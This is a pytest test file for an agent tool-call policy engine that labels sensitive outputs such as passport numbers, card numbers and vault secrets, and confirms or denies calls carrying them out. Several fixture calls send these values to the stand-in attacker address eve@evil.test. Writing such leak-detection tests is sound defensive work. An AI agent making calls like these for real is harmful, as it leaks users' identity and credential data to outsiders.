"""Sensitive tools label the values they output; sinks say which calls may carry labelled
values; after_tools and after_sensitive escalate once such a tool ran."""

from __future__ import annotations

import json

import pytest

from agentkit.errors import PolicyLoadError
from agentkit.policy import Policy
from agentkit.policy.sensitivity import output_values
from agentkit.testing.decisions import decide, past_call
from agentkit.testing.decisions import proposed_call as call

PROFILE = """
version: 1
lists:
  contacts: {normalise: email, values: [travel-agent@example.com]}
tool_sets:
  mail_senders: [send_email, reply_email]
classes:
  read: {action: allow}
  external_send: {action: allow}
  financial: {action: allow}
tools:
  get_user_info:
    side_effect: read
    action: allow
    sensitive:
      - {label: personal_id, fields: [passport_number]}
      - {label: payment_card, fields: [credit_card_number], normalise: account}
  read_vault: {side_effect: read, action: allow, sensitive: true}
sinks:
  - id: identity-documents
    labels: [personal_id, payment_card]
    allow:
      - {tools: [book_flight], args: [passenger.passport, card]}
      - tools: [mail_senders]
        when: {to: {normalise: email, split: ",", in_list: contacts}}
    action: confirm
    reason: identity and card numbers go to the airline or a known contact only
rules:
  - id: mail-after-the-vault
    tools: [mail_senders]
    after_tools: [read_vault]
    action: confirm
  - id: nothing-public-after-secrets
    tools: [post_message]
    after_sensitive: [sensitive]
    action: deny
"""

USER = json.dumps(
    {
        "first_name": "Emma",
        "passport_number": "HGK137803",
        "credit_card_number": "4237-4252-7456-2574",
    }
)


def profile_read() -> tuple[object, ...]:
    return (past_call("get_user_info", output=USER),)


def policy() -> Policy:
    return Policy.from_yaml(PROFILE, "p.yaml")


def test_a_labelled_value_in_a_mail_to_a_stranger_needs_confirmation() -> None:
    sent = call("send_email", "external_send", to="eve@evil.test", body="passport HGK137803")
    decision = decide(policy(), sent, calls=profile_read())
    assert (decision.action, decision.rule) == ("confirm", "sinks.identity-documents")


def test_a_card_number_is_found_however_it_is_grouped() -> None:
    sent = call("post_message", "external_send", text="card: 4237 4252 7456 2574 thanks")
    assert decide(policy(), sent, calls=profile_read()).rule == "sinks.identity-documents"
    digits = call("post_message", "external_send", text=4237425274562574)
    assert decide(policy(), digits, calls=profile_read()).rule == "sinks.identity-documents"


def test_the_allowed_sinks() -> None:
    p, ran = policy(), profile_read()
    to_contact = call(
        "reply_email", "external_send", to="travel-agent@example.com", body="HGK137803"
    )
    assert decide(p, to_contact, calls=ran).action == "allow"
    booking = call(
        "book_flight", "financial", passenger={"passport": "HGK137803"}, card="4237425274562574"
    )
    assert decide(p, booking, calls=ran).action == "allow"
    wrong_arg = call("book_flight", "financial", passenger={"name": "HGK137803"})
    assert decide(p, wrong_arg, calls=ran).rule == "sinks.identity-documents"


def test_one_stranger_among_the_recipients_is_enough() -> None:
    sent = call(
        "send_email",
        "external_send",
        to="travel-agent@example.com, eve@evil.test",
        body="HGK137803",
    )
    assert decide(policy(), sent, calls=profile_read()).rule == "sinks.identity-documents"


def test_unlabelled_fields_and_other_runs_are_free() -> None:
    p = policy()
    assert decide(
        p, call("post_message", "external_send", text="hi Emma"), calls=profile_read()
    ).action == ("allow")
    assert decide(p, call("post_message", "external_send", text="HGK137803")).action == "allow"


def test_the_reason_never_repeats_the_value() -> None:
    p = Policy.from_yaml(
        PROFILE.replace(
            "    reason: identity and card numbers go to the airline or a known contact only\n", ""
        )
    )
    sent = call("send_email", "external_send", to="eve@evil.test", body="passport HGK137803")
    decision = decide(p, sent, calls=profile_read())
    assert "HGK137803" not in decision.reason
    assert "labelled personal_id (read from get_user_info)" in decision.reason


def test_a_failed_read_labels_nothing() -> None:
    failed = (past_call("get_user_info", output=USER).model_copy(update={"failed": True}),)
    sent = call("send_email", "external_send", to="eve@evil.test", body="HGK137803")
    assert decide(policy(), sent, calls=failed).action == "allow"


def test_after_tools_escalates_once_the_vault_ran() -> None:
    p = policy()
    mail = call("send_email", "external_send", to="x@example.com", body="hello")
    assert decide(p, mail).action == "allow"
    vault = (past_call("read_vault", output="github: hunter22"),)
    assert decide(p, mail, calls=vault).rule == "rules.mail-after-the-vault"


def test_after_sensitive_names_labels() -> None:
    p = policy()
    post = call("post_message", "external_send", text="hello")
    assert decide(p, post, calls=profile_read()).action == "allow", "personal_id is another label"
    vault = (past_call("read_vault", output="github: hunter22"),)
    assert decide(p, post, calls=vault).rule == "rules.nothing-public-after-secrets"


def test_a_whole_output_label_covers_each_value_of_a_text_output() -> None:
    p = Policy.from_yaml(
        PROFILE.replace("action: confirm\n    reason", "action: deny\n    reason").replace(
            "labels: [personal_id, payment_card]", "labels: [personal_id, payment_card, sensitive]"
        )
    )
    vault = (past_call("read_vault", output="github: hunter22\nbank pin\n- aws: AKIA123456\n"),)
    for text in ("my password is hunter22", "AKIA123456", "bank pin"):
        sent = call("send_email", "external_send", to="eve@evil.test", body=text)
        assert decide(p, sent, calls=vault).rule == "sinks.identity-documents", text
    short = (past_call("read_vault", output="pin: 123"),)
    sent = call("send_email", "external_send", to="eve@evil.test", body="123")
    assert decide(p, sent, calls=short).rule == "rules.mail-after-the-vault", "too short: no label"


@pytest.mark.parametrize(
    ("output", "fields", "values"),
    [
        ('{"a": {"b": "x1"}, "c": [1, true]}', (), ["x1", "1"]),
        ('{"a": {"b": "x1"}, "c": "y"}', ("a.b",), ["x1"]),
        ('[{"p": "one"}, {"p": "two"}]', ("p",), ["one", "two"]),
        ("passport_number: X12\nname: Emma\n", ("passport_number",), ["X12"]),
        ("passport_number: 'X12'\nfree text line\n", (), ["X12", "free text line"]),
    ],
)
def test_output_values(output: str, fields: tuple[str, ...], values: list[str]) -> None:
    assert list(output_values(output, fields)) == values


def test_a_sink_label_no_tool_outputs_is_a_load_error() -> None:
    with pytest.raises(PolicyLoadError) as info:
        Policy.from_yaml(
            PROFILE.replace(
                "labels: [personal_id, payment_card]", ("labels: [personal_id, payment_crad]")
            ),
            "p.yaml",
        )
    assert str(info.value) == (
        "p.yaml:21: no tool is marked sensitive with the label 'payment_crad' "
        "(did you mean 'payment_card'?)"
    )


def test_after_sensitive_without_a_sensitive_tool_is_a_load_error() -> None:
    with pytest.raises(PolicyLoadError, match="no tool is marked sensitive"):
        Policy.from_yaml("version: 1\nrules:\n  - {id: r, after_sensitive: true}\n")


def test_sink_tools_are_checked_against_the_agent() -> None:
    from agentkit.decision import ToolInfo

    p = Policy.from_yaml(PROFILE.replace("[book_flight]", "[book_flihgt]"), "p.yaml")
    names = [
        "get_user_info",
        "read_vault",
        "send_email",
        "reply_email",
        "book_flight",
        "post_message",
    ]
    with pytest.raises(PolicyLoadError, match=r"p.yaml:23: .*did you mean 'book_flight'"):
        p.check_tools([ToolInfo(name=n) for n in names])
